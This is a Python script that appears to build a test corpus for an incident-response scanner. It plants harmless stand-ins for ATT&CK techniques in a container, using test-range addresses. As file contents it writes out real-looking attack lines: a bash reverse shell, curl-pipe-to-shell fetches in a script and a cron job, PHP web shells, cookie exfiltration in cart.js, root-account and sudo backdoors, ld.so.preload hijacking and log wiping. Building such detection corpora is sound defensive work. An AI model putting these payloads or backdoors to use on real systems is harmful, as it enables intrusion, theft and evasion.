"""Planted changes over ATT&CK techniques, all benign.  Runs in the container; ``truth.yaml`` says of each id what must be found.

No planted program is run but copies of busybox and of sleep(1): as ``sleep``, as web servers that nobody asks anything, and shells that
wait for what nobody sends.  Addresses are of TEST-NET-1 and TEST-NET-2 (RFC 5737), and no packet is sent to them.
"""

from __future__ import annotations

import os
import socket
import stat
import struct
import subprocess

from tests.corpus.inside.common import content, noise

PLANTS = {}
"""By id, in the order in which they are planted: what changes how programs start comes last."""
LIBRARIES = next(path for path in ("/usr/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu") if os.path.isdir(path))
BUSYBOX = "/bin/busybox"
ADDRESS = "192.0.2.66"
KNOWN_ADDRESS = "198.51.100.66"
"""Stands in ``indicators.csv``."""


def plant(function):
    PLANTS[function.__name__.replace("_", "-")] = function
    return function


def write(path, data, mode=0o644, owner=0):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as file:
        file.write(data)
    os.chmod(path, mode)
    if owner:
        os.chown(path, owner, owner)


def append(path, data):
    with open(path, "ab") as file:
        file.write(data)


def patch(path, offset, data):
    """Other bytes in the place of some: same inode, same size, same times."""
    info = os.stat(path)
    with open(path, "r+b") as file:
        file.seek(offset)
        file.write(data)
    os.utime(path, ns=(info.st_atime_ns, info.st_mtime_ns))


def copy(source, target, mode=0o755):
    os.makedirs(os.path.dirname(target), exist_ok=True)
    with open(target, "wb") as file:
        file.write(content(source))
    os.chmod(target, mode)


def replace_in(path, old, new):
    data = content(path)
    assert old in data, path
    with open(path, "wb") as file:
        file.write(data.replace(old, new))


def spawn(path, *argv, stdin=None, environment=None):
    """A process of its own session; returns once it runs its program.  ``stdin``: a descriptor, of the null device without."""
    reading, writing = os.pipe2(os.O_CLOEXEC)
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            empty = os.open("/dev/null", os.O_RDWR)
            os.dup2(empty if stdin is None else stdin, 0)
            for one in (1, 2):
                os.dup2(empty, one)
            os.chdir("/")
            os.execve(path, argv, environment or dict(os.environ))
        os._exit(0)
    os.close(writing)
    os.waitpid(child, 0)
    os.read(reading, 1)
    os.close(reading)


SLEEP = ("busybox", "sleep", "86400")


# Programs
@plant
def swapped_same_size_and_time():
    patch("/usr/bin/tac", 0x400, b"irkit corpus")


@plant
def swapped_library():
    patch(f"{LIBRARIES}/libBrokenLocale.so.1", 0x300, b"irkit corpus")


@plant
def swapped_by_another():
    copy("/usr/bin/sleep", "/usr/bin/cksum.new")
    os.rename("/usr/bin/cksum.new", "/usr/bin/cksum")


@plant
def replaced_applet_link():
    copy(BUSYBOX, "/usr/local/bin/vi.new")
    os.rename("/usr/local/bin/vi.new", "/usr/local/bin/vi")


@plant
def setuid_copy():
    copy("/usr/bin/dash", "/usr/local/bin/netstat-helper", 0o4755)


@plant
def setuid_set():
    os.chmod("/usr/bin/env", 0o4755)


@plant
def setgid_set():
    os.chmod("/usr/bin/expr", 0o2755)


@plant
def setuid_hard_link():
    os.makedirs("/usr/local/lib/helpers")
    os.link("/usr/bin/su", "/usr/local/lib/helpers/maint")


@plant
def file_capability():
    # struct vfs_cap_data, version 2: effective, permitted cap_setuid (capabilities(7), linux/capability.h)
    os.setxattr("/usr/bin/nice", "security.capability", struct.pack("<IIIII", 0x02000001, 1 << 7, 0, 0, 0))


@plant
def renamed_busybox():
    copy(BUSYBOX, "/usr/local/bin/kworkerd")


@plant
def packed_program():
    data = bytearray(content(BUSYBOX))
    (table,) = struct.unpack_from("<Q", data, 32)
    size, count = struct.unpack_from("<HH", data, 54)
    start = table + size * count
    struct.pack_into("<Q", data, 40, 0)  # no section headers
    struct.pack_into("<HHH", data, 58, 0, 0, 0)
    data[start : start + 12] = b"\0\0\0\0UPX!\x0d\x16\x02\x0a"
    data[4096:] = noise("packed", len(data) - 4096)
    write("/usr/local/bin/cachectl", bytes(data), 0o755)


@plant
def foreign_program():
    data = bytearray(content("/usr/bin/sleep"))
    struct.pack_into("<H", data, 18, 0xB7)  # EM_AARCH64
    write("/opt/app/bin/agent", bytes(data), 0o755)


@plant
def moved_program():
    os.makedirs("/usr/local/share/misc")
    os.rename("/usr/bin/shred", "/usr/local/share/misc/wiper")


@plant
def world_writable_program():
    os.chmod("/usr/bin/fold", 0o777)


@plant
def dropped_in_tmp():
    copy("/usr/bin/sleep", "/tmp/.font-unix/fontd")


@plant
def hidden_folder():
    write("/usr/share/.X11-cache/run.sh", b"#!/bin/sh\nexec sleep 1\n", 0o755)


@plant
def blank_name():
    write("/var/tmp/ /.. /loader", content("/usr/bin/sleep"), 0o755)


@plant
def double_extension():
    write("/home/app/invoice.pdf.sh", b"#!/bin/sh\nexec sleep 1\n", 0o755, 1000)


@plant
def reverse_shell_text():
    write("/opt/app/bin/health", f"#!/bin/bash\nbash -i >& /dev/tcp/{ADDRESS}/4444 0>&1\n".encode(), 0o755)


@plant
def miner_configuration():
    write("/opt/app/etc/pool.json", b'{"url": "stratum+tcp://pool.invalid:3333", "user": "wallet", "algo": "rx/0"}\n')


@plant
def kernel_module():
    write(
        "/lib/modules/extra/netfilter_helper.ko",
        b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HH", 1, 62) + bytes(60) + b"vermagic=x\0",
    )


@plant
def capability_for_ports():
    # cap_net_raw: no way to root by itself
    os.setxattr("/usr/bin/nohup", "security.capability", struct.pack("<IIIII", 0x02000001, 1 << 13, 0, 0, 0))


@plant
def library_in_tmp():
    copy(f"{LIBRARIES}/libutil.so.1", "/var/tmp/locale.bin", 0o644)


@plant
def moved_settings():
    os.rename("/etc/security/time.conf", "/etc/security/time.conf.off")


@plant
def moved_aside():
    os.rename("/opt/app/bin/run", "/opt/app/bin/run.real")
    write("/opt/app/bin/run", b"#!/bin/sh\nexec /opt/app/bin/run.real\n", 0o755)


@plant
def start_script():
    write("/docker-entrypoint.d/05-warm.sh", b"#!/bin/sh\ntrue\n", 0o755)


@plant
def fetch_and_run():
    write("/opt/app/bin/update", f"#!/bin/sh\ncurl -s http://{ADDRESS}/i | sh\n".encode(), 0o755)


@plant
def way_to_the_host():
    write("/opt/app/bin/debug", b"#!/bin/sh\nnsenter -t 1 -m -- true\n", 0o755)


@plant
def account_script():
    write("/opt/app/bin/onboard", b"#!/bin/sh\nuseradd -o -u 0 support\n", 0o755)


@plant
def known_file():
    write("/opt/app/etc/stage2.dat", b"irkit corpus: a file that a list of indicators knows\n")


@plant
def vouched_for():
    path = "/usr/share/base-files/zz-extra.sh"
    data = b"#!/bin/sh\nexec true\n"
    write(path, data, 0o755)
    append("/var/lib/dpkg/info/base-files.list", f"{path}\n".encode())
    append("/var/lib/dpkg/info/base-files.md5sums", f"e5d8e78fc4ca3e06efc7829c15aed957  {path[1:]}\n".encode())


@plant
def attack_tool():
    folder = "/tmp/nmap-package"
    write(
        f"{folder}/DEBIAN/control",
        b"Package: nmap\nVersion: 7.0\nArchitecture: all\nMaintainer: nobody <nobody@invalid>\nDescription: a stand-in\n",
    )
    write(f"{folder}/usr/share/nmap/README", b"A stand-in for the real one.\n")
    for argv in (["dpkg-deb", "-Zgzip", "--build", folder, f"{folder}.deb"], ["dpkg", "-i", f"{folder}.deb"]):
        subprocess.run(argv, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    for argv in (["rm", "-r", folder], ["rm", f"{folder}.deb"]):
        subprocess.run(argv, check=True)


# Persistence
@plant
def cron_folder():
    write("/etc/cron.d/sysstat-collect", b"*/5 * * * * root /usr/local/bin/kworkerd sleep 1\n")


@plant
def cron_of_a_user():
    write("/var/spool/cron/crontabs/www-data", b"@hourly /usr/bin/true\n", 0o600, 33)


@plant
def cron_daily_script():
    write("/etc/cron.daily/apt-clean", b"#!/bin/sh\nexec true\n", 0o755)


@plant
def at_job():
    write("/var/spool/cron/atjobs/a0000101c0ffee", b"#!/bin/sh\ntrue\n", 0o700)


@plant
def authorized_key():
    append(
        "/root/.ssh/authorized_keys",
        b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB8eHRwbGhkYFxYVFBMSERAPDg0MCwoJCAcGBQQDAgEA x@y\n",
    )


@plant
def authorized_keys_of_a_service():
    write(
        "/var/www/.ssh/authorized_keys",
        b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB8eHRwbGhkYFxYVFBMSERAPDg0MCwoJCAcGBQQDAgEA x@y\n",
        0o600,
        33,
    )


@plant
def sshd_weakened():
    replace_in("/etc/ssh/sshd_config", b"PermitRootLogin no", b"PermitRootLogin yes")


@plant
def systemd_service():
    write(
        "/etc/systemd/system/dbus-helper.service",
        b"[Service]\nExecStart=/usr/local/bin/kworkerd sleep 1\nRestart=always\n",
    )


@plant
def systemd_timer():
    write("/etc/systemd/system/dbus-helper.timer", b"[Timer]\nOnBootSec=5min\nOnUnitActiveSec=5min\n")


@plant
def rc_local():
    write("/etc/rc.local", b"#!/bin/sh\nexit 0\n", 0o755)


@plant
def init_script():
    write("/etc/init.d/netcfg", b"#!/bin/sh\nexit 0\n", 0o755)


@plant
def profile_line():
    append("/etc/profile", b"\n[ -x /usr/local/bin/kworkerd ] && true # start\n")


@plant
def bashrc_line():
    append("/root/.bashrc", b"\nalias sudo='sudo '\n")


@plant
def motd_script():
    write("/etc/update-motd.d/10-help-text", b"#!/bin/sh\ntrue\n", 0o755)


@plant
def udev_rule():
    write("/etc/udev/rules.d/75-net.rules", b'SUBSYSTEM=="net", RUN+="/bin/true"\n')


@plant
def python_startup():
    write("/usr/lib/python3/dist-packages/zz-paths.pth", b"import sys\n")


@plant
def git_hook():
    write("/srv/www/.git/hooks/post-checkout", b"#!/bin/sh\nexit 0\n", 0o755)


@plant
def package_hook():
    write("/etc/apt/apt.conf.d/99-post", b'APT::Update::Post-Invoke {"/bin/true";};\n')


@plant
def package_source():
    write("/etc/apt/sources.list.d/extra.list", f"deb [trusted=yes] http://{ADDRESS}/debian ./\n".encode())


@plant
def certificate_authority():
    block = b"-----BEGIN CERTIFICATE-----\nMIIB" + b"B" * 60 + b"\n-----END CERTIFICATE-----\n"
    write("/usr/local/share/ca-certificates/corp.crt", block)
    append("/etc/ssl/certs/ca-certificates.crt", block)


@plant
def library_folder():
    write("/etc/ld.so.conf.d/00-local.conf", b"/var/tmp/lib\n")


@plant
def pam_permit():
    append("/etc/pam.d/common-auth", b"auth sufficient pam_permit.so\n")


@plant
def pam_module():
    copy(f"{LIBRARIES}/security/pam_permit.so", f"{LIBRARIES}/security/pam_unix_cache.so", 0o644)


@plant
def cron_that_fetches():
    write("/etc/cron.d/zz-update", f"@hourly root curl -s http://{ADDRESS}/u | sh\n".encode())


@plant
def editor_start_file():
    write("/root/.vimrc", b"silent !true\n")


@plant
def ssh_client_command():
    write("/root/.ssh/config", b"Host *\n  ProxyCommand /usr/local/bin/kworkerd sleep 1\n", 0o600)


@plant
def rotation_script():
    write("/etc/logrotate.d/zz-app", b"/var/log/app/*.log {\n  postrotate\n    true\n  endscript\n}\n")


@plant
def module_settings():
    write("/etc/modprobe.d/zz-net.conf", b"install dccp /bin/true\n")


@plant
def polkit_rule():
    write("/etc/polkit-1/rules.d/49-app.rules", b"polkit.addRule(function(a, s) { return polkit.Result.YES; });\n")


@plant
def git_command():
    append("/srv/www/.git/config", b"\tfsmonitor = /usr/local/bin/kworkerd\n")


@plant
def name_service():
    replace_in("/etc/nsswitch.conf", b"passwd:         files", b"passwd:         files extra")


@plant
def package_key():
    write(
        "/etc/apt/trusted.gpg.d/extra.asc",
        b"-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nbm9uZQ==\n-----END PGP PUBLIC KEY BLOCK-----\n",
    )


# Accounts and rights
@plant
def account_that_can_log_in():
    append("/etc/passwd", b"backup2:x:1500:1500::/home/backup2:/bin/bash\n")


@plant
def password_set():
    replace_in("/etc/shadow", b"deploy:!:", b"deploy:$6$abcdefgh$abcdefghijklmnopqrstuvwxyz:")


@plant
def readable_again():
    os.chmod("/etc/security/access.conf", 0o600)


@plant
def too_long_to_compare():
    write("/home/app/.ssh/authorized_keys", b"# nothing\n" * 25_000, 0o600, 1000)


@plant
def second_superuser():
    append("/etc/passwd", b"sysadm:x:0:0::/root:/bin/bash\n")
    append("/etc/shadow", b"sysadm:!:19600:0:99999:7:::\n")


@plant
def shell_for_service():
    replace_in(
        "/etc/passwd",
        b"www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin",
        b"www-data:x:33:33:www-data:/var/www:/bin/bash",
    )


@plant
def empty_password():
    replace_in("/etc/shadow", b"\ngames:*:", b"\ngames::")


@plant
def added_to_sudo_group():
    replace_in("/etc/group", b"\nsudo:x:27:\n", b"\nsudo:x:27:app\n")


@plant
def sudo_without_password():
    write("/etc/sudoers.d/90-app", b"app ALL=(ALL) NOPASSWD: ALL\n", 0o440)


@plant
def owner_only():
    os.chown("/etc/login.defs", 1000, 1000)


@plant
def mode_only():
    os.chmod("/etc/security/limits.conf", 0o666)


@plant
def acl_only():
    # posix_acl_xattr.h: user::rw, user:1000:r, group::r, mask::r, other::- leaves the mode as it is (0640)
    entries = ((1, 6, 0xFFFFFFFF), (2, 4, 1000), (4, 4, 0xFFFFFFFF), (0x10, 4, 0xFFFFFFFF), (0x20, 0, 0xFFFFFFFF))
    os.setxattr(
        "/etc/gshadow",
        "system.posix_acl_access",
        struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *one) for one in entries),
    )


@plant
def attribute_only():
    os.setxattr("/usr/share/base-files/motd", "user.note", noise("attribute", 64))


@plant
def device_node():
    os.mknod("/usr/local/lib/disk0", 0o660 | stat.S_IFBLK, os.makedev(8, 0))


# Web
@plant
def web_shell():
    write("/srv/www/uploads/thumb.php", b"<?php @eval(base64_decode($_POST['q'])); ?>\n", owner=33)


@plant
def web_shell_in_a_page():
    append("/srv/www/page7.php", b"if (isset($_GET['c'])) { system($_GET['c']); }\n")


@plant
def web_prepend():
    write("/srv/www/.user.ini", b"auto_prepend_file=uploads/photo-1.jpg\n", owner=33)


@plant
def page_that_sends_away():
    write(
        "/srv/www/cart.js",
        f'document.forms[0].onsubmit = () => fetch("https://{ADDRESS}/c?" + document.cookie);\n'.encode(),
        owner=33,
    )


# Traces
@plant
def gathered_archive():
    write("/var/tmp/.b.tgz", b"\x1f\x8b\x08\0" + noise("gathered", 4000), 0o600)


@plant
def history_off():
    write("/etc/profile.d/90-term.sh", b"unset HISTFILE\n")


@plant
def backdated():
    append("/opt/app/bin/report", b"true\n")
    os.utime("/opt/app/bin/report", (1_690_000_000, 1_690_000_000))


@plant
def file_becomes_link():
    os.unlink("/srv/www/page9.php")
    os.symlink("/etc/app/app.ini", "/srv/www/page9.php")


@plant
def older_than_the_image():
    write("/usr/local/bin/diskstat", b"#!/bin/sh\nexec true\n", 0o755)
    os.utime("/usr/local/bin/diskstat", (1_500_000_000, 1_500_000_000))


@plant
def time_in_the_future():
    os.utime("/opt/app/lib/core.so", (2_100_000_000, 2_100_000_000))


@plant
def log_emptied():
    os.truncate("/var/log/auth.log", 0)


@plant
def log_lines_cut():
    lines = content("/var/log/app/app.log").splitlines(keepends=True)
    with open("/var/log/app/app.log", "wb") as file:
        file.writelines(lines[:20] + lines[60:])


@plant
def login_records_zeroed():
    with open("/var/log/wtmp", "r+b") as file:
        file.seek(384 * 5)
        file.write(bytes(384 * 3))


@plant
def log_deleted():
    os.unlink("/var/log/app/audit.log")


@plant
def history_to_nowhere():
    os.unlink("/root/.bash_history")
    os.symlink("/dev/null", "/root/.bash_history")


@plant
def link_retargeted():
    os.unlink("/usr/local/bin/report")
    os.symlink("/var/tmp/report", "/usr/local/bin/report")


@plant
def opaque_over_full():
    for name in os.listdir("/srv/archive/2023"):
        os.unlink(f"/srv/archive/2023/{name}")
    os.rmdir("/srv/archive/2023")
    write("/srv/archive/2023/README", b"pay\n")


@plant
def security_tool_removed():
    subprocess.run(["dpkg", "--purge", "rkhunter"], check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


@plant
def package_downgraded():
    argv = ["dpkg", "--force-downgrade", "-i", "/var/cache/apt/archives/irkit-corpus-ssl_1.0_all.deb"]
    subprocess.run(argv, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


# Memory, volumes, processes
@plant
def shared_memory_payload():
    copy(BUSYBOX, "/dev/shm/.x")
    spawn("/dev/shm/.x", *SLEEP)


@plant
def run_folder_program():
    copy("/usr/bin/sleep", "/run/app/.w")


@plant
def volume_program():
    copy("/usr/bin/sleep", "/var/lib/app/.plugins/loader")


@plant
def deleted_program_runs():
    copy(BUSYBOX, "/usr/local/sbin/updated")
    spawn("/usr/local/sbin/updated", *SLEEP)
    os.unlink("/usr/local/sbin/updated")


@plant
def memory_only_program():
    held = os.memfd_create("corpus")
    with open(held, "wb", closefd=False) as file:
        file.write(content(BUSYBOX))
    spawn(f"/proc/self/fd/{held}", *SLEEP)
    os.close(held)


@plant
def unannounced_port():
    spawn(BUSYBOX, "busybox", "httpd", "-f", "-p", "31337", "-h", "/var/empty")


@plant
def memory_only_listener():
    held = os.memfd_create("web")
    with open(held, "wb", closefd=False) as file:
        file.write(content(BUSYBOX))
    spawn(f"/proc/self/fd/{held}", "busybox", "httpd", "-f", "-p", "31338", "-h", "/var/empty")
    os.close(held)


@plant
def new_program_runs():
    spawn("/usr/local/bin/kworkerd", *SLEEP)


@plant
def swapped_program_runs():
    spawn("/usr/bin/cksum", "cksum", "86400")


@plant
def miner_runs():
    copy(BUSYBOX, "/opt/app/bin/xmrig")
    spawn("/opt/app/bin/xmrig", *SLEEP)


@plant
def known_program_runs():
    copy(BUSYBOX, "/opt/app/bin/netmond")
    spawn("/opt/app/bin/netmond", *SLEEP)


@plant
def shell_with_a_connection():
    """A shell that reads from a connection to a mining pool's port, at the container's own address; nobody writes to it."""
    own = socket.gethostbyname(socket.gethostname())
    with socket.create_server((own, 3333)) as server, socket.create_connection((own, 3333)) as ours:
        theirs, _ = server.accept()
        with theirs:
            spawn("/bin/sh", "sh", stdin=ours.fileno())
            spawn(BUSYBOX, *SLEEP, stdin=theirs.fileno())


@plant
def command_of_an_attack():
    spawn(BUSYBOX, "busybox", "sh", "-c", f"sleep 86400; : bash -i /dev/tcp/{ADDRESS}/4444")


@plant
def known_address():
    """UDP: connected without a packet."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as held:
        held.connect((KNOWN_ADDRESS, 53))
        spawn(BUSYBOX, *SLEEP, stdin=held.fileno())


@plant
def raw_socket():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as held:
        spawn(BUSYBOX, *SLEEP, stdin=held.fileno())


@plant
def preloaded_process():
    copy(BUSYBOX, "/opt/app/bin/sessiond")
    spawn("/opt/app/bin/sessiond", *SLEEP, environment={**os.environ, "LD_PRELOAD": "/usr/local/lib/libsystem.so"})


@plant
def name_server():
    append("/etc/resolv.conf", f"nameserver {ADDRESS}\n".encode())


@plant
def hosts_entry():
    append("/etc/hosts", f"{ADDRESS}\tdeb.debian.org\n".encode())


@plant
def preload():
    copy(f"{LIBRARIES}/libutil.so.1", "/usr/local/lib/libsystem.so", 0o644)
    write("/etc/ld.so.preload", b"/usr/local/lib/libsystem.so\n")


UNMADE = ("device-node", "raw-socket")
"""In a user namespace the kernel makes no device node, and without CAP_NET_RAW no raw socket: the attack is none there either."""
os.umask(0o022)
os.makedirs("/var/empty", exist_ok=True)
planted = []
for name, function in PLANTS.items():
    try:
        function()
    except PermissionError as error:
        if name not in UNMADE:
            raise SystemExit(f"{name}: {error!r}") from error
    except Exception as error:
        raise SystemExit(f"{name}: {error!r}") from error
    else:
        planted.append(name)
print(planted)
